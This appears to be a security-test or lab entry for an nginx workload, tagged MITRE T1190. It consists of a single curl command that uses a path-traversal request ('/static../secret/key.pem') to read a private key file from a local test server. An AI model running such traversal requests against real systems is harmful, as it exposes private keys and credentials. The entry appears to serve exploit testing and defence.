# workload: nginx
# technique: T1190
# finds: /app/secret/key.pem
curl -s --path-as-is "http://127.0.0.1:18080/static../secret/key.pem"
